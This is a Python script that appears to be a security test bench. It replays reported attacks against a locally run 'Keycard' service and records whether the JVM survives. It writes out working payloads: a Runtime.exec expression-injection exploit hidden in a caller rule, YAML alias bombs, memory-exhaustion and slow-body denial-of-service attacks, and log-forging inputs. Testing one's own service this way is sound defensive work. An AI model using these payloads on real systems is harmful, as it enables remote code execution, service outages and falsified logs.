#!/usr/bin/env python3
"""Replays the attacks of issues 14, 15 and 16 against a running Keycard jar; see bench/attacks.sh.

Starts the service itself (so that it can start it again after an attack killed it), runs each
attack and prints one line per attack: status(es), time, answer size, whether the JVM is alive.
Standard library only.
"""
import collections
import http.client
import json
import os
import socket
import subprocess
import sys
import threading
import time

HOST = "127.0.0.1"
PORT = int(os.environ.get("PORT", "18081"))
JAR = os.environ.get("JAR", "target/quarkus-app/quarkus-run.jar")
JAVA_OPTS = os.environ["JAVA_OPTS"].split()
LOG = os.environ.get("SERVICE_LOG", "/tmp/keycard-attacks.log")
ONLY = set(os.environ.get("ONLY", "").split(",")) - {""}
RUN_START = os.path.getsize(LOG) if os.path.exists(LOG) else 0

service = None
log_file = None
deaths = 0


def start():
    global service, log_file
    log_file = open(LOG, "ab")
    service = subprocess.Popen(
        ["java", *JAVA_OPTS, f"-Dquarkus.http.host={HOST}", f"-Dquarkus.http.port={PORT}",
         # caller rules on, for the attacks of issues 14 and 15 (those of 16 send none)
         "-Dkeycard.rules.adhoc=true", "-jar", JAR],
        stdout=log_file, stderr=subprocess.STDOUT)
    for _ in range(240):
        if service.poll() is not None:
            sys.exit(f"the service exited while starting (status {service.returncode}); see {LOG}")
        try:
            if get("/q/health/ready", timeout=2)[0] == 200:
                return
        except OSError:
            pass
        time.sleep(0.5)
    sys.exit(f"the service did not become ready; see {LOG}")


def stop():
    if service and service.poll() is None:
        service.terminate()
        try:
            service.wait(20)
        except subprocess.TimeoutExpired:
            service.kill()


def alive():
    if service.poll() is not None:
        return False
    try:
        return get("/q/health/live", timeout=10)[0] == 200
    except OSError:
        return False


def ensure_running():
    """Starts the service again if the last attack killed it (or left it unable to answer)."""
    global deaths
    if service.poll() is None and not alive():
        try:
            service.wait(15)  # an out-of-memory exit takes a moment
        except subprocess.TimeoutExpired:
            service.kill()
            service.wait()
    if service.poll() is not None:
        deaths += 1
        print(f"    (the JVM had exited with status {service.returncode}; starting it again)",
              flush=True)
        start()


def request(method, path, body=None, ctype=None, timeout=120, headers=None):
    """One request on a connection of its own: (status, answer bytes, seconds)."""
    t = time.monotonic()
    c = http.client.HTTPConnection(HOST, PORT, timeout=timeout)
    try:
        h = dict(headers or {})
        if ctype:
            h["Content-Type"] = ctype
        c.request(method, path, body=body, headers=h)
        r = c.getresponse()
        data = r.read()
        return r.status, len(data), time.monotonic() - t
    except (OSError, http.client.HTTPException) as e:
        return f"ERR({type(e).__name__})", 0, time.monotonic() - t
    finally:
        c.close()


def get(path, timeout=10):
    c = http.client.HTTPConnection(HOST, PORT, timeout=timeout)
    try:
        c.request("GET", path)
        r = c.getresponse()
        return r.status, r.read()
    finally:
        c.close()


def metric(scrape, name, labels=""):
    """The sum of a metric's samples in a Prometheus scrape (lines starting with name{labels...)."""
    total = 0.0
    for ln in scrape.splitlines():
        if ln.startswith(name) and (not labels or labels in ln) and not ln.startswith("#"):
            total += float(ln.rsplit(" ", 1)[1])
    return total


def memory():
    """The answer cache's estimated bytes and the heap in use, from /q/metrics."""
    try:
        status, body = get("/q/metrics")
        scrape = body.decode()
        cache = metric(scrape, "keycard_answer_cache_weight_bytes")
        heap = metric(scrape, "jvm_memory_used_bytes", 'area="heap"')
        return f"cache={cache / 2**20:.1f}MiB heap-used={heap / 2**20:.0f}MiB"
    except (OSError, ValueError, IndexError):
        return "cache=? heap-used=?"


def report(num, name, status, secs, size, extra=""):
    state = "alive" if alive() else "DEAD"
    print(f"{num:<4} {name:<62} status={status} time={secs:.2f}s answer={size}B jvm={state}"
          + (f"  {extra}" if extra else ""), flush=True)


def single(num, name, method, path, body, ctype):
    if ONLY and num.split(".")[0] not in ONLY:
        return
    ensure_running()
    if isinstance(body, (dict, list)):
        body = json.dumps(body)
    if isinstance(body, str):
        body = body.encode()
    status, size, secs = request(method, path, body, ctype)
    report(num, name, status, secs, size, f"body={len(body)}B")


def many(num, name, bodies, path, ctype):
    """Sends every body (each twice when asked) and reports the statuses seen."""
    if ONLY and num.split(".")[0] not in ONLY:
        return
    ensure_running()
    statuses = collections.Counter()
    largest = 0
    t = time.monotonic()
    for body in bodies:
        status, size, _ = request("POST", path, body, ctype)
        statuses[status] += 1
        largest = max(largest, size)
        if service.poll() is not None:
            break
    secs = time.monotonic() - t
    report(num, name, dict(statuses), secs, largest,
           f"requests={sum(statuses.values())} {memory() if service.poll() is None else ''}")


# ---- 1-4: input-side attacks (fixed on another branch) ----

def dockerfile_arg_doubling():
    lines = ["FROM alpine", "ARG A0=aaaaaaaaaaaaaaaa"]
    lines += [f"ARG A{i}=${{A{i - 1}}}${{A{i - 1}}}" for i in range(1, 41)]
    lines += ["USER ${A40}"]
    return {"input": "services:\n  app:\n    build: .\n    image: app\n",
            "files": {"Dockerfile": "\n".join(lines) + "\n"}}


def anchored_list():
    caps = "".join("  - SYS_ADMIN\n" for _ in range(1000))  # 99,000 nodes: under the alias cap
    services = "".join(f"  s{i}:\n    image: nginx\n    cap_add: *caps\n" for i in range(99))
    return "x-caps: &caps\n" + caps + "services:\n" + services


def docker_run(flags):
    return "docker run " + flags + " nginx"


# ---- 6: made-up methods, then a scrape ----

def made_up_methods(num, count=5000):
    if ONLY and num not in ONLY:
        return
    ensure_running()
    statuses = collections.Counter()
    t = time.monotonic()
    c = None
    for i in range(count):
        try:
            if c is None:
                c = http.client.HTTPConnection(HOST, PORT, timeout=30)
            c.request(f"ABCD{i}", "/v1/evaluate", body=b"docker run nginx",
                      headers={"Content-Type": "text/plain"})
            r = c.getresponse()
            r.read()
            statuses[r.status] += 1
            if r.getheader("Connection", "").lower() == "close":
                c.close()
                c = None
        except (OSError, http.client.HTTPException) as e:
            statuses[f"ERR({type(e).__name__})"] += 1
            c = None
    secs = time.monotonic() - t
    report(num, f"{count} made-up methods on /v1/evaluate", dict(statuses), secs, 0)
    for label in ("first", "second"):
        status, size, secs = request("GET", "/q/metrics")
        report(num, f"/q/metrics scrape after them ({label})", status, secs, size)
    status, size, secs = request("ABCD", "/q/health")
    report(num, "ABCD /q/health", status, secs, size)


# ---- 7: slow bodies while a normal caller is served ----

def slow_body(kind, results, index, stop):
    t = time.monotonic()
    s = socket.create_connection((HOST, PORT), timeout=60)
    head = "POST /v1/evaluate HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\n"
    if kind == "chunked":
        head += "Transfer-Encoding: chunked\r\n"
    else:
        head += "Content-Length: 100000\r\n"
    if kind == "expect":
        head += "Expect: 100-continue\r\n"
    s.sendall((head + "\r\n").encode())
    reply = bytearray()
    ended = [None]

    def reader():
        # the server closes the connection after refusing a body; read until it does
        try:
            while True:
                d = s.recv(65536)
                if not d:
                    break
                reply.extend(d)
        except OSError:
            pass
        ended[0] = time.monotonic()

    rt = threading.Thread(target=reader, daemon=True)
    rt.start()
    sent = 0
    while rt.is_alive() and not stop.is_set() and sent < 100000:
        try:
            s.sendall(b"1\r\nx\r\n" if kind == "chunked" else b"x")
        except OSError:
            break
        sent += 1
        time.sleep(1)
    rt.join(5)
    s.close()
    text = reply.decode("latin-1")
    finals = [p for p in text.split("HTTP/1.1 ")[1:] if not p.startswith("100")]
    status = finals[0][:3] if finals else "none"
    results[index] = (kind, status, (ended[0] or time.monotonic()) - t, sent)


def slow_connections(num, per_kind=4, seconds=20):
    if ONLY and num not in ONLY:
        return
    ensure_running()
    kinds = ["declared"] * per_kind + ["chunked"] * per_kind + ["expect"] * per_kind
    results = [None] * len(kinds)
    stop = threading.Event()
    threads = [threading.Thread(target=slow_body, args=(k, results, i, stop), daemon=True)
               for i, k in enumerate(kinds)]
    for th in threads:
        th.start()
    time.sleep(1)
    answered, latencies, statuses = 0, [], collections.Counter()
    t_end = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < t_end:
        t0 = time.monotonic()
        status, _, secs = request("POST", "/v1/evaluate", b"docker run --privileged nginx",
                                  "text/plain", timeout=30)
        sent += 1
        statuses[status] += 1
        if status == 200:
            answered += 1
            latencies.append(secs)
        time.sleep(max(0.0, 0.5 - (time.monotonic() - t0)))
    stop.set()
    for th in threads:
        th.join(60)
    latencies.sort()
    worst = latencies[-1] if latencies else 0.0
    report(num, f"normal evaluate every 0.5 s for {seconds} s, {len(kinds)} slow bodies open",
           dict(statuses), worst, 0, f"answered={answered}/{sent} worst={worst:.3f}s")
    for kind in ("declared", "chunked", "expect"):
        mine = [r for r in results if r and r[0] == kind]
        report(num, f"slow bodies, {kind} ({len(mine)} connections, 1 byte/s)",
               dict(collections.Counter(r[1] for r in mine)),
               max((r[2] for r in mine), default=0), 0,
               f"bytes sent each <= {max((r[3] for r in mine), default=0)}")


# ---- 8: log forging ----

FORGED = '{"decision_id":"forged","allow":true}'


def log_forging(num):
    if ONLY and num not in ONLY:
        return
    ensure_running()
    start_at = os.path.getsize(LOG)
    name = "web\n" + FORGED + "\r\n\u001b[2J\u2028"
    compose = "services:\n  " + json.dumps(name) + ":\n    image: nginx\n    privileged: true\n"
    cases = [
        ("/v1/evaluate", {"input": compose}),
        ("/v1/fix?apply=all", {"input": compose}),
        ("/v1/evaluate", {"input": "docker run --name '" + name + "' --privileged nginx"}),
        ("/v1/fix?apply=all", {"input": {"Image": "nginx", "Name": name,
                               "HostConfig": {"Privileged": True}}}),
        ("/v1/evaluate", {"input": "docker run nginx", "format": name}),
        ("/v1/evaluate?ruleset=" + "x%0A" + FORGED.replace('"', "%22"),
         {"input": "docker run nginx"}),
    ]
    statuses = collections.Counter()
    t = time.monotonic()
    for path, body in cases:
        status, _, _ = request("POST", path, json.dumps(body).encode(), "application/json")
        statuses[status] += 1
    secs = time.monotonic() - t
    time.sleep(1)
    with open(LOG, "rb") as f:
        f.seek(start_at)
        lines = f.read().decode("utf-8", "replace").splitlines()
    forged = [ln for ln in lines if ln.lstrip().startswith('{"decision_id":"forged"')]
    json_lines = [ln for ln in lines if ln.startswith("{")]
    bad_json = 0
    for ln in json_lines:
        try:
            json.loads(ln)
        except ValueError:
            bad_json += 1
    report(num, "caller names with line breaks and escapes, then the log", dict(statuses), secs,
           0, f"log lines={len(lines)} forged={len(forged)} json lines={len(json_lines)}"
              f" (not JSON: {bad_json})")
    with open(LOG, "rb") as f:
        f.seek(RUN_START)
        run = f.read().decode("utf-8", "replace").splitlines()
    traces = sum(1 for ln in run if ln.startswith("\tat ") or ln.startswith("Caused by"))
    others = [ln for ln in run if not ln.startswith("{")]
    report(num, "the whole run's log: stack-trace lines, lines that are not decisions",
           "-", 0, 0, f"trace lines={traces} other lines={len(others)} of {len(run)}")


# ---- issues 14 and 15: caller rules ----

MARKER = "/tmp/keycard-issue14-marker"


def exploit_14():
    """The request of issue 14: a rule whose condition hides Runtime.exec in a string literal."""
    inner = ("''[" + '\\"\\".getClass().forName(\\"java.lang.Runtime\\")'
             '.getMethod(\\"getRuntime\\").invoke(null).exec(\\"touch ' + MARKER + '\\")'
             + "],'")
    when = '["' + inner + '"[0]] != null'
    return json.dumps({"input": "docker run nginx", "ruleset": "baseline",
                       "rules": [{"id": "X", "title": "t", "severity": "low", "message": "m",
                                  "when": when}]})


def env_run(n):
    return "docker run " + " ".join(f"-e V{i}=x" for i in range(n)) + " nginx"


def rule(for_each, when, message="m", **extra):
    r = {"id": "X-1", "title": "t", "severity": "low", "when": when, "message": message}
    if for_each:
        r["for_each"] = for_each
    r.update(extra)
    return r


FOUR_PROJECTIONS = ("($ in c.environment if $.name == item.name).size()"
                    " + ($ in c.environment).size() + ($.value in c.environment).size()"
                    " + ($.name in c.environment).size() < 0")


def concurrent_with_probe(num, name, path, body, ctype, callers=8):
    """callers copies of one request at once while a plain evaluate and /q/health/ready are
    polled; reports the attack's statuses and the worst probe time."""
    if ONLY and num.split(".")[0] not in ONLY:
        return
    ensure_running()
    if isinstance(body, (dict, list)):
        body = json.dumps(body)
    if isinstance(body, str):
        body = body.encode()
    results = []
    t = time.monotonic()
    threads = [threading.Thread(target=lambda: results.append(request("POST", path, body, ctype)))
               for _ in range(callers)]
    for th in threads:
        th.start()
    probes = []
    while any(th.is_alive() for th in threads):
        s1, _, p1 = request("POST", "/v1/evaluate", b"docker run --privileged nginx", "text/plain",
                            timeout=30)
        s2, _, p2 = request("GET", "/q/health/ready", timeout=30)
        probes.append((s1, s2, max(p1, p2)))
        time.sleep(0.2)
    for th in threads:
        th.join()
    secs = time.monotonic() - t
    statuses = collections.Counter(r[0] for r in results)
    worst = max((p[2] for p in probes), default=0)
    probe_statuses = collections.Counter(f"{p[0]}/{p[1]}" for p in probes)
    report(num, name, dict(statuses), secs, max((r[1] for r in results), default=0),
           f"probes={dict(probe_statuses)} worst-probe={worst:.2f}s")


def alias_bomb_rules():
    y = ["- id: X-1", "  title: t", "  severity: low", "  when: 'true'", "  message: m",
         "  references: &l0 [" + ", ".join(["x"] * 2000) + "]"]
    for i in range(1, 6):
        y.append(f"  r{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 4) + "]")
    return "\n".join(y) + "\n"


def aliased_examples():
    big = env_run(19_990)
    return ("id: X-1\ntitle: t\nseverity: low\nmessage: m\nfor_each: environment\n"
            "when: '" + FOUR_PROJECTIONS.replace("'", "''") + "'\n"
            "examples:\n  fail:\n    - &big \"" + big + "\"\n" + "    - *big\n" * 9
            + "  pass: [docker run nginx]\n")


def shutdown_while_busy(num):
    """SIGTERM while eight heavy rule checks run: how long until the JVM has exited."""
    global service
    if ONLY and num not in ONLY:
        return
    ensure_running()
    body = json.dumps({"input": env_run(1500), "rules": [
        rule("environment", "item.name != ''", fix=[{"remove_item": "environment"}])]}).encode()
    answers = []
    threads = [threading.Thread(target=lambda: answers.append(
        request("POST", "/v1/fix?apply=all", body, "application/json", timeout=60)[0]))
               for _ in range(8)]
    for th in threads:
        th.start()
    time.sleep(1.0)
    t = time.monotonic()
    service.terminate()
    try:
        service.wait(60)
        secs = time.monotonic() - t
        for th in threads:
            th.join()
        print(f"{num:<4} {'SIGTERM with eight fix proofs running':<62} exited in {secs:.2f}s"
              f" status={service.returncode} callers={dict(collections.Counter(map(str, answers)))}",
              flush=True)
    except subprocess.TimeoutExpired:
        print(f"{num:<4} {'SIGTERM with eight fix proofs running':<62} still running after 60 s",
              flush=True)
        service.kill()
        service.wait()
    for th in threads:
        th.join()
    start()


def issues_14_and_15():
    if os.path.exists(MARKER):
        os.remove(MARKER)
    single("14", "issue 14's exploit as a caller rule, /v1/evaluate", "POST", "/v1/evaluate",
           exploit_14(), "application/json")
    print(f"     marker file {MARKER} exists: {os.path.exists(MARKER)}", flush=True)
    concurrent_with_probe(
        "15.1", "4 projections in for_each over 19,990 -e, x8 at once", "/v1/evaluate",
        {"input": env_run(19_990), "rules": [rule("environment", FOUR_PROJECTIONS)]},
        "application/json")
    concurrent_with_probe(
        "15.2", "rule check, 209 KB example x10 via aliases, x8 at once", "/v1/rulesets/check",
        aliased_examples(), "application/yaml")
    single("15.3", "alias bomb in a rule file (20 aliases), /v1/rulesets/check", "POST",
           "/v1/rulesets/check", alias_bomb_rules(), "application/yaml")
    single("15.3b", "the same bomb as rules YAML text, /v1/evaluate", "POST", "/v1/evaluate",
           {"input": "docker run nginx", "rules": alias_bomb_rules()}, "application/json")
    single("15.4", "message of 16 projections over 2,000 -e (61 KB), /v1/evaluate", "POST",
           "/v1/evaluate",
           {"input": env_run(2000),
            "rules": [rule("environment", "true", "@{($.name in c.environment)}" * 16)]},
           "application/json")
    concurrent_with_probe(
        "15.5", "remove_item environment over 1,500 -e, /v1/fix, x4 at once", "/v1/fix?apply=all",
        {"input": env_run(1500),
         "rules": [rule("environment", "item.name != ''", fix=[{"remove_item": "environment"}])]},
        "application/json", callers=4)
    shutdown_while_busy("15.6")


def main():
    print(f"# Keycard attacks (issues 14, 15, 16) on {HOST}:{PORT}, JVM options:"
          f" {' '.join(JAVA_OPTS)} -Dkeycard.rules.adhoc=true", flush=True)
    start()
    try:
        issues_14_and_15()
        single("1", "Dockerfile ARG doubling x40 (files.Dockerfile), /v1/evaluate", "POST",
               "/v1/evaluate", dockerfile_arg_doubling(), "application/json")
        single("2", "anchored list of 1,000 reused by 99 services, /v1/evaluate", "POST",
               "/v1/evaluate", anchored_list(), "application/yaml")
        single("3.1", "3,200 x -v /var/run/docker.sock:/sN, /v1/evaluate", "POST",
               "/v1/evaluate",
               docker_run(" ".join(f"-v /var/run/docker.sock:/s{i}" for i in range(3200))),
               "text/plain")
        single("3.2", "4,096 x --cap-add SYS_ADMIN, /v1/evaluate", "POST", "/v1/evaluate",
               docker_run(" ".join(["--cap-add SYS_ADMIN"] * 4096)), "text/plain")
        privileged = docker_run(" ".join(["--privileged"] * 19990))
        single("4.1", "--privileged x 19,990, /v1/parse", "POST", "/v1/parse", privileged,
               "text/plain")
        single("4.2", "--privileged x 19,990, /v1/evaluate", "POST", "/v1/evaluate", privileged,
               "text/plain")
        single("4.3", "engine-api CapAdd x 4,096, /v1/fix", "POST", "/v1/fix?apply=all",
               {"input": {"Image": "nginx", "HostConfig": {"CapAdd": ["SYS_ADMIN"] * 4096}}},
               "application/json")
        single("4.4", "compose cap_add x 8,192, /v1/fix", "POST", "/v1/fix?apply=all",
               "services:\n  app:\n    image: nginx\n    cap_add:\n"
               + "".join("      - SYS_ADMIN\n" for _ in range(8192)), "application/yaml")
        mb = 1_000_000
        many("5.1", "230 distinct 1 MB variables, each sent twice, /v1/evaluate",
             (json.dumps({"input": "docker run nginx",
                          "variables": {"V": f"{i}-" + "x" * mb}}).encode()
              for i in range(230) for _ in range(2)),
             "/v1/evaluate", "application/json")
        many("5.2", "230 distinct 1 MB waiver reasons, each sent twice, /v1/evaluate",
             (json.dumps({"input": "docker run --privileged nginx",
                          "exclude": [{"rule_id": "KC-001", "reason": f"{i}-" + "x" * mb}]}
                         ).encode()
              for i in range(230) for _ in range(2)),
             "/v1/evaluate", "application/json")
        made_up_methods("6")
        slow_connections("7")
        log_forging("8")
    finally:
        alive_at_end = service.poll() is None
        stop()
        print(f"# JVM deaths during the run: {deaths}; alive at the end: {alive_at_end};"
              f" service log: {LOG}", flush=True)


if __name__ == "__main__":
    main()
